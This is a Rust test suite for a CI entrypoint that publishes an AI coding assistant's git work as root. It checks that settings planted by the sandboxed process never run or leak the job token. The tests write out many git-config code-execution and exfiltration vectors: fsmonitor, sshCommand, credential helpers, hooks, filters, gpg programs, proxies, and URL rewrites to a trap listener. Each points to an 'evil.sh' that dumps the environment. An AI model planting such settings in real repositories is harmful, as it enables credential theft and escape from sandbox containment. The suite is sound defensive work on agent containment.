//! Nothing the assistant leaves in git runs when the entrypoint publishes its work.
//!
//! Each test makes a checkout the way GitLab Runner's Docker executor does (`umask 0000`, so
//! `.git/config` and `.git/hooks/` are world-writable), lets the sandbox uid (65534, through
//! `setpriv`) plant one executing key or file, and runs the product's post-run flow as root:
//! `has_work` (`git status`), `commit` (`add`, `commit`), `push` to the double's smart HTTP and
//! `patch` (`format-patch`). The planted program writes a marker (with its environment, which
//! would hold the token) when it runs: the marker never appears, the push still lands, a
//! second listener that a planted URL or proxy points at receives nothing, and the token is in
//! no file under the test's directory.
//!
//! Measured against the code without its protection (no restore, no command-line overrides):
//! 17 of these tests fail. The other six (aliases, alternates, credential helpers, diff and
//! merge drivers, pagers and editors, a nested repository) pass even then, because the
//! post-run flow never reaches those programs today; they stay as guards for the day it does
//! (a `git diff`, a merge, a credential prompt). The last test covers the merge request side:
//! configuration swapped for the target's and never committed (`workspace/trusted.rs`).

use std::io::Read as _;
use std::os::unix::fs::PermissionsExt as _;
use std::path::{Path, PathBuf};
use std::sync::{Arc, Mutex};

use base64::Engine as _;
use doubles::gitlab::repo::FileChange;
use entrypoint::workspace::{
    AssistantBranch, BranchPrefix, GitDirError, PushDestination, PushOutcome, Workspace,
    WorkspaceError,
};

use crate::support::git_remote::{BOT_TOKEN, GitServer, human, identity, issue, same_project_mr};

const SANDBOX_UID: &str = "65534";

/// The GitLab double's git, a listener that must stay silent, and a CI checkout.
struct World {
    server: GitServer,
    trap: String,
    trapped: Arc<Mutex<Vec<u8>>>,
    work: PathBuf,
}

/// The program every planted setting names: it leaves a marker with its arguments and
/// environment (where the token would be) when it runs.
fn evil_script(marker: &Path) -> String {
    format!(
        "#!/bin/sh\n{{ echo \"ran as $(id -u): $0 $*\"; env; }} >> '{}' 2>&1\nexit 0\n",
        marker.display()
    )
}

impl World {
    async fn start() -> World {
        let server = GitServer::start().await;
        let dir = server.dir.path();
        // The sandbox uid must reach the checkout, as it does in a job.
        std::fs::set_permissions(dir, std::fs::Permissions::from_mode(0o755)).unwrap();

        // Whatever connects here was sent somewhere it should not have been.
        let trap_listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        let trap = format!("127.0.0.1:{}", trap_listener.local_addr().unwrap().port());
        let trapped = Arc::new(Mutex::new(Vec::new()));
        let sink = trapped.clone();
        std::thread::spawn(move || {
            for stream in trap_listener.incoming() {
                let Ok(mut stream) = stream else { continue };
                let _ = stream.set_read_timeout(Some(std::time::Duration::from_secs(2)));
                let mut buf = Vec::new();
                let _ = stream.read_to_end(&mut buf);
                let mut sink = sink.lock().unwrap();
                sink.extend_from_slice(b"<connection>");
                sink.extend_from_slice(&buf);
            }
        });

        let evil = dir.join("evil.sh");
        std::fs::write(&evil, evil_script(&dir.join("markers/ran"))).unwrap();
        std::fs::set_permissions(&evil, std::fs::Permissions::from_mode(0o755)).unwrap();
        std::fs::create_dir(dir.join("markers")).unwrap();
        std::fs::set_permissions(dir.join("markers"), std::fs::Permissions::from_mode(0o777))
            .unwrap();

        // The runner's clone: umask 0000, job token in the URL.
        let work = dir.join("work");
        let status = std::process::Command::new("sh")
            .args([
                "-c",
                "umask 0000 && exec git clone --quiet \"$1\" \"$2\"",
                "sh",
            ])
            .arg(server.ci_clone_url())
            .arg(&work)
            .env("GIT_CONFIG_NOSYSTEM", "1")
            .env("GIT_CONFIG_GLOBAL", "/dev/null")
            .env("GIT_TERMINAL_PROMPT", "0")
            .status()
            .unwrap();
        assert!(status.success());
        let mode = std::fs::metadata(work.join(".git/config"))
            .unwrap()
            .permissions()
            .mode();
        assert_eq!(
            mode & 0o777,
            0o666,
            "the checkout is world-writable, as in CI"
        );
        World {
            server,
            trap,
            trapped,
            work,
        }
    }

    fn path(&self, relative: &str) -> PathBuf {
        self.server.path(relative)
    }

    /// `text` with `EVIL` (the marker program), `WORK` (the checkout), `BASE` (the double's
    /// URL), `TRAP` (the silent listener's address) and `DIR` (the test's directory) filled in.
    fn fill(&self, text: &str) -> String {
        text.replace("EVIL", &self.path("evil.sh").display().to_string())
            .replace("WORK", &self.work.display().to_string())
            .replace("BASE", &self.server.base)
            .replace("TRAP", &self.trap)
            .replace("DIR", &self.server.dir.path().display().to_string())
    }

    /// Runs `script` as the sandbox uid in the checkout, with `$1`.. as `args`.
    fn as_sandbox(&self, script: &str, args: &[&str], stdin: &str) {
        use std::io::Write as _;
        let mut child = std::process::Command::new("setpriv")
            .args([
                &format!("--reuid={SANDBOX_UID}"),
                &format!("--regid={SANDBOX_UID}"),
                "--clear-groups",
                "--",
                "sh",
                "-c",
                script,
                "sh",
            ])
            .args(args)
            .current_dir(&self.work)
            .env("HOME", "/nonexistent")
            .stdin(std::process::Stdio::piped())
            .spawn()
            .unwrap();
        child
            .stdin
            .take()
            .unwrap()
            .write_all(self.fill(stdin).as_bytes())
            .unwrap();
        assert!(child.wait().unwrap().success(), "{script} {args:?}");
    }

    /// The sandbox uid appends `text` to `.git/config`.
    fn plant_config(&self, text: &str) {
        self.as_sandbox("cat >> .git/config", &[], text);
    }

    /// The sandbox uid writes `content` to `relative` (under the checkout) with `mode`.
    fn plant_file(&self, relative: &str, content: &str, mode: &str) {
        self.as_sandbox(
            "mkdir -p \"$(dirname \"$1\")\" && cat > \"$1\" && chmod \"$2\" \"$1\"",
            &[relative, mode],
            content,
        );
    }

    /// The sandbox uid writes each of `hooks` into `dir` (under the checkout): a script that
    /// runs the marker program.
    fn plant_hooks(&self, dir: &str, hooks: &[&str]) {
        for hook in hooks {
            self.plant_file(
                &format!("{dir}/{hook}"),
                &format!("#!/bin/sh\nexec EVIL {hook}\n"),
                "0755",
            );
        }
    }

    /// The sandbox uid sets `attributes` for every file, in the checkout's `.gitattributes`
    /// and in `.git/info/attributes`.
    fn plant_attributes(&self, attributes: &str) {
        for file in [".gitattributes", ".git/info/attributes"] {
            self.plant_file(file, attributes, "0644");
        }
    }

    /// The product's workspace on the checkout, on a new branch `claude/work` for an issue.
    async fn open(&self) -> Workspace {
        let mut workspace = self.server.open(&self.work).await;
        workspace.checkout(issue()).await.unwrap();
        workspace.start_branch(&work_branch()).await.unwrap();
        workspace
    }

    fn marker(&self) -> Option<String> {
        std::fs::read_to_string(self.path("markers/ran")).ok()
    }

    /// No planted program ran, the silent listener heard nothing, and no file under the test's
    /// directory holds the token (in clear or in its Basic form).
    fn assert_nothing_escaped(&self) {
        assert_eq!(self.marker(), None, "a planted program ran");
        let trapped = self.trapped.lock().unwrap().clone();
        assert!(
            trapped.is_empty(),
            "the planted destination received: {}",
            String::from_utf8_lossy(&trapped)
        );
        let basic = base64::engine::general_purpose::STANDARD.encode(format!("oauth2:{BOT_TOKEN}"));
        for file in files_under(self.server.dir.path()) {
            if file.starts_with(self.path("repos")) {
                continue;
            }
            let Ok(bytes) = std::fs::read(&file) else {
                continue;
            };
            let text = String::from_utf8_lossy(&bytes);
            assert!(
                !text.contains(BOT_TOKEN) && !text.contains(&basic),
                "the token is in {}",
                file.display()
            );
        }
    }
}

fn files_under(dir: &Path) -> Vec<PathBuf> {
    let mut files = Vec::new();
    let mut stack = vec![dir.to_owned()];
    while let Some(dir) = stack.pop() {
        let Ok(entries) = std::fs::read_dir(&dir) else {
            continue;
        };
        for entry in entries.flatten() {
            let Ok(kind) = entry.file_type() else {
                continue;
            };
            if kind.is_dir() {
                stack.push(entry.path());
            } else if kind.is_file() {
                files.push(entry.path());
            }
        }
    }
    files
}

/// The branch the assistant works on: `claude/work`.
fn work_branch() -> AssistantBranch {
    BranchPrefix::new("claude/")
        .unwrap()
        .branch("work")
        .unwrap()
}

/// The post-run flow of `run::changes::publish`, plus the patch it posts when a push fails.
async fn publish(workspace: &Workspace) -> Result<(String, PushOutcome), WorkspaceError> {
    assert!(workspace.has_work().await?);
    workspace.changes().await?;
    let sha = workspace
        .commit(&identity(), "Add the work")
        .await?
        .expect("a commit");
    let outcome = workspace
        .push(&PushDestination::NewBranch(work_branch()))
        .await?;
    workspace.patch().await?;
    Ok((sha, outcome))
}

/// Plants with `plant`, lets the sandbox uid change a file, publishes, and checks that the
/// work landed and nothing escaped.
async fn attack(plant: impl FnOnce(&World)) {
    let world = World::start().await;
    let workspace = world.open().await;
    plant(&world);
    world.plant_file("work.txt", "the assistant's work\n", "0644");
    let (sha, outcome) = publish(&workspace).await.unwrap();
    assert_eq!(
        outcome,
        PushOutcome::Pushed {
            branch: "claude/work".to_owned(),
            sha: sha.clone()
        }
    );
    assert_eq!(
        world.server.upstream.branch_sha("claude/work").unwrap(),
        Some(sha)
    );
    world.assert_nothing_escaped();
}

/// One test per configuration that the sandbox uid appends to `.git/config` and that names
/// the marker program or the silent listener: [`attack`] with it.
macro_rules! planted_configuration_is_harmless {
    ($($test:ident: $config:expr,)*) => {$(
        #[tokio::test(flavor = "multi_thread")]
        async fn $test() {
            attack(|w| w.plant_config($config)).await;
        }
    )*};
}

planted_configuration_is_harmless! {
    core_fsmonitor_does_not_run:
        "[core]\n\tfsmonitor = EVIL\n",
    core_ssh_command_does_not_run:
        "[url \"ssh://git@TRAP/\"]\n\tinsteadOf = BASE/\n\tpushInsteadOf = BASE/\n[core]\n\tsshCommand = EVIL\n",
    pagers_and_editors_do_not_run:
        "[core]\n\tpager = EVIL\n\teditor = EVIL\n[pager]\n\tstatus = EVIL\n\tdiff = EVIL\n\tformat-patch = EVIL\n[sequence]\n\teditor = EVIL\n",
    credential_helpers_and_askpass_do_not_run:
        "[credential]\n\thelper = !EVIL\n[credential \"BASE\"]\n\thelper = !EVIL\n[core]\n\taskPass = EVIL\n",
    the_ext_transport_does_not_run:
        "[protocol \"ext\"]\n\tallow = always\n[protocol]\n\tallow = always\n[url \"ext::EVIL \"]\n\tinsteadOf = BASE/\n\tpushInsteadOf = BASE/\n",
    remote_programs_and_urls_are_not_used:
        "[remote \"origin\"]\n\turl = http://TRAP/group/proj.git\n\tpushurl = http://TRAP/group/proj.git\n\tuploadpack = EVIL\n\treceivepack = EVIL\n[remote \"BASE/group/proj.git\"]\n\treceivepack = EVIL\n\tpushurl = http://TRAP/group/proj.git\n",
    signing_programs_do_not_run:
        "[commit]\n\tgpgSign = true\n[tag]\n\tgpgSign = true\n[push]\n\tgpgSign = true\n[gpg]\n\tprogram = EVIL\n[gpg \"ssh\"]\n\tprogram = EVIL\n[gpg \"x509\"]\n\tprogram = EVIL\n",
    git_proxy_and_pack_hooks_do_not_run:
        "[core]\n\tgitProxy = EVIL\n[url \"git://TRAP/\"]\n\tinsteadOf = BASE/\n[uploadpack]\n\tpackObjectsHook = EVIL\n",
    aliases_do_not_replace_commands:
        "[alias]\n\tstatus = !EVIL\n\tadd = !EVIL\n\tcommit = !EVIL\n\tpush = !EVIL\n\tformat-patch = !EVIL\n",
    an_http_proxy_does_not_receive_the_token:
        "[http]\n\tproxy = http://TRAP\n\tcookieFile = DIR/markers/cookies\n\tsaveCookies = true\n[http \"BASE/\"]\n\tproxy = http://TRAP\n\textraHeader = X-Planted: 1\n",
    a_rewritten_url_does_not_receive_the_token:
        "[url \"http://TRAP/\"]\n\tinsteadOf = BASE/\n\tpushInsteadOf = BASE/\n[http]\n\tfollowRedirects = true\n",
}

#[tokio::test(flavor = "multi_thread")]
async fn hooks_dropped_in_git_hooks_do_not_run() {
    attack(|w| {
        let hooks = [
            "pre-commit",
            "prepare-commit-msg",
            "commit-msg",
            "post-commit",
            "pre-push",
            "reference-transaction",
            "post-index-change",
            "post-checkout",
            "fsmonitor-watchman",
        ];
        w.plant_hooks(".git/hooks", &hooks);
    })
    .await;
}

#[tokio::test(flavor = "multi_thread")]
async fn core_hooks_path_does_not_run() {
    attack(|w| {
        let hooks = [
            "pre-commit",
            "post-commit",
            "pre-push",
            "reference-transaction",
        ];
        w.plant_hooks("planted-hooks", &hooks);
        w.plant_config("[core]\n\thooksPath = WORK/planted-hooks\n");
    })
    .await;
}

#[tokio::test(flavor = "multi_thread")]
async fn included_configuration_is_not_read() {
    attack(|w| {
        w.plant_file(
            "planted.config",
            "[core]\n\tfsmonitor = EVIL\n[url \"http://TRAP/\"]\n\tinsteadOf = BASE/\n",
            "0644",
        );
        w.plant_config(
            "[include]\n\tpath = WORK/planted.config\n[includeIf \"gitdir:/\"]\n\tpath = WORK/planted.config\n[includeIf \"onbranch:*\"]\n\tpath = WORK/planted.config\n",
        );
    })
    .await;
}

#[tokio::test(flavor = "multi_thread")]
async fn filter_drivers_do_not_run() {
    attack(|w| {
        w.plant_config(
            "[filter \"x\"]\n\tclean = EVIL\n\tsmudge = EVIL\n\tprocess = EVIL\n\trequired = false\n",
        );
        w.plant_attributes("* filter=x\n");
    })
    .await;
}

#[tokio::test(flavor = "multi_thread")]
async fn diff_and_merge_drivers_do_not_run() {
    attack(|w| {
        w.plant_config(
            "[diff]\n\texternal = EVIL\n[diff \"x\"]\n\ttextconv = EVIL\n\tcommand = EVIL\n[merge \"x\"]\n\tdriver = EVIL\n",
        );
        w.plant_attributes("* diff=x merge=x\n");
    })
    .await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_worktree_configuration_is_not_read() {
    attack(|w| {
        w.plant_config("[extensions]\n\tworktreeConfig = true\n");
        w.plant_file(
            ".git/config.worktree",
            "[core]\n\tfsmonitor = EVIL\n[url \"http://TRAP/\"]\n\tinsteadOf = BASE/\n",
            "0644",
        );
    })
    .await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_common_dir_elsewhere_is_not_used() {
    attack(|w| {
        w.as_sandbox(
            "cp -r .git \"$1\" && printf '[core]\\n\\tfsmonitor = %s\\n' \"$2\" >> \"$1/config\" && echo \"$1\" > .git/commondir",
            &[
                &w.work.join("planted-common").display().to_string(),
                &w.path("evil.sh").display().to_string(),
            ],
            "",
        );
    })
    .await;
}

#[tokio::test(flavor = "multi_thread")]
async fn alternates_are_removed() {
    attack(|w| {
        w.as_sandbox(
            "git init --quiet --bare \"$1\" && echo \"$1/objects\" > .git/objects/info/alternates && echo \"$1/objects\" > .git/objects/info/http-alternates",
            &[&w.work.join("planted-objects").display().to_string()],
            "",
        );
    })
    .await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_nested_repository_with_its_own_configuration_does_not_run() {
    attack(|w| {
        w.as_sandbox(
            "git init --quiet nested && git -C nested -c user.name=x -c user.email=x@x commit --quiet --allow-empty -m x && printf '[core]\\n\\tfsmonitor = %s\\n' \"$1\" >> nested/.git/config && echo x > nested/file",
            &[&w.path("evil.sh").display().to_string()],
            "",
        );
    })
    .await;
}

/// `.git` swapped for something else: nothing is published and nothing runs.
async fn refused(swap: &str) {
    let world = World::start().await;
    let workspace = world.open().await;
    world.as_sandbox(swap, &[&world.path("evil.sh").display().to_string()], "");
    world.plant_file("work.txt", "the assistant's work\n", "0644");
    let error = publish(&workspace).await.unwrap_err();
    assert!(
        matches!(error, WorkspaceError::GitDir(GitDirError::Replaced { .. })),
        "{error}"
    );
    assert_eq!(
        world.server.upstream.branch_sha("claude/work").unwrap(),
        None
    );
    world.assert_nothing_escaped();
}

#[tokio::test(flavor = "multi_thread")]
async fn a_git_dir_turned_into_a_gitdir_file_is_refused() {
    refused(
        "mv .git planted-git && printf '[core]\\n\\tfsmonitor = %s\\n' \"$1\" >> planted-git/config && echo 'gitdir: planted-git' > .git",
    )
    .await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_git_dir_turned_into_a_link_is_refused() {
    refused(
        "mv .git planted-git && printf '[core]\\n\\tfsmonitor = %s\\n' \"$1\" >> planted-git/config && ln -s planted-git .git",
    )
    .await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_config_turned_into_a_link_is_replaced_without_writing_through_it() {
    let world = World::start().await;
    let workspace = world.open().await;
    let victim = world.path("markers/victim");
    std::fs::write(&victim, "untouched").unwrap();
    world.as_sandbox(
        "rm .git/config && ln -s \"$1\" .git/config",
        &[&victim.display().to_string()],
        "",
    );
    world.plant_file("work.txt", "the assistant's work\n", "0644");
    let (_, outcome) = publish(&workspace).await.unwrap();
    assert!(matches!(outcome, PushOutcome::Pushed { .. }), "{outcome:?}");
    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "untouched");
    let config = std::fs::symlink_metadata(world.work.join(".git/config")).unwrap();
    assert!(config.is_file());
    assert_eq!(
        config.permissions().mode() & 0o022,
        0,
        "the restored configuration is no longer writable by the sandbox uid"
    );
    world.assert_nothing_escaped();
}

/// A merge request's configuration files are swapped for the target's while the model works,
/// invisibly to `git status` and `git add --all`, and put back before the commit: the model's
/// edits to them are named and not committed, its other work is.
#[tokio::test(flavor = "multi_thread")]
async fn a_merge_requests_configuration_is_swapped_and_never_committed() {
    use entrypoint::agent::Assistant;

    let world = World::start().await;
    let upstream = &world.server.upstream;
    let files = |files: &[(&str, &str)]| {
        files
            .iter()
            .map(|(path, content)| FileChange::write(*path, *content))
            .collect::<Vec<_>>()
    };
    upstream
        .commit(
            "main",
            &files(&[
                ("CLAUDE.md", "target rules @docs/style.md\n"),
                ("docs/style.md", "target style\n"),
            ]),
            "Rules\n",
            &human(),
        )
        .unwrap();
    upstream.create_branch("feature", "main").unwrap();
    let mr_files = [
        ("CLAUDE.md", "mr rules\n"),
        ("docs/style.md", "mr style\n"),
        (".claude/settings.json", "{\"hooks\":{}}\n"),
        (".mcp.json", "{}\n"),
        ("src/CLAUDE.md", "nested mr rules\n"),
        ("src/lib.txt", "code\n"),
    ];
    let sha = upstream
        .commit("feature", &files(&mr_files), "Feature\n", &human())
        .unwrap();
    let mut workspace = world.server.open(&world.work).await;
    workspace
        .checkout(same_project_mr("feature", &sha))
        .await
        .unwrap();
    let swap = workspace
        .use_target_configuration(Assistant::Claude)
        .await
        .unwrap();

    let read = |path: &str| std::fs::read_to_string(world.work.join(path)).ok();
    assert_eq!(
        read("CLAUDE.md").as_deref(),
        Some("target rules @docs/style.md\n")
    );
    assert_eq!(
        read("docs/style.md").as_deref(),
        Some("target style\n"),
        "a file the target's CLAUDE.md imports comes from the target too"
    );
    assert_eq!(read(".claude/settings.json"), None);
    assert_eq!(read(".mcp.json"), None);
    assert_eq!(read("src/CLAUDE.md"), None);
    assert_eq!(
        read("src/lib.txt").as_deref(),
        Some("code\n"),
        "code is untouched"
    );
    assert!(
        workspace.changes().await.unwrap().is_empty(),
        "git status does not see the swap"
    );

    // The model edits a swapped file, adds a command, does its real work, and stages it all.
    // (As root: lending the checkout to the sandbox uid is the sandbox's business.)
    let model_writes = |path: &str, content: &str| {
        let full = world.work.join(path);
        std::fs::create_dir_all(full.parent().unwrap()).unwrap();
        std::fs::write(full, content).unwrap();
    };
    model_writes("CLAUDE.md", "target rules, edited by the model\n");
    model_writes(".claude/commands/new.md", "a command\n");
    model_writes("src/lib.txt", "better code\n");
    let staged = std::process::Command::new("git")
        .args(["-c", "safe.directory=*", "add", "--all"])
        .current_dir(&world.work)
        .env("GIT_CONFIG_GLOBAL", "/dev/null")
        .output()
        .unwrap();
    assert!(staged.status.success(), "{staged:?}");

    let kept_out = workspace
        .restore_reviewed_configuration(Assistant::Claude, &swap)
        .await
        .unwrap();
    assert_eq!(kept_out, [".claude/commands/new.md", "CLAUDE.md"]);
    for (path, content) in mr_files.iter().filter(|(p, _)| *p != "src/lib.txt") {
        assert_eq!(
            read(path).as_deref(),
            Some(*content),
            "{path} is the merge request's again"
        );
    }
    workspace
        .commit(&identity(), "Improve the code")
        .await
        .unwrap()
        .unwrap();
    let outcome = workspace
        .push(&PushDestination::SourceBranch {
            created_by_assistant: false,
        })
        .await
        .unwrap();
    let PushOutcome::Pushed { sha: pushed, .. } = outcome else {
        panic!("{outcome:?}");
    };
    let diffs = upstream.diffs(&sha, &pushed).unwrap();
    assert_eq!(
        diffs
            .iter()
            .map(|d| d.new_path.as_str())
            .collect::<Vec<_>>(),
        ["src/lib.txt"],
        "only the model's real work is committed"
    );
    world.assert_nothing_escaped();
}
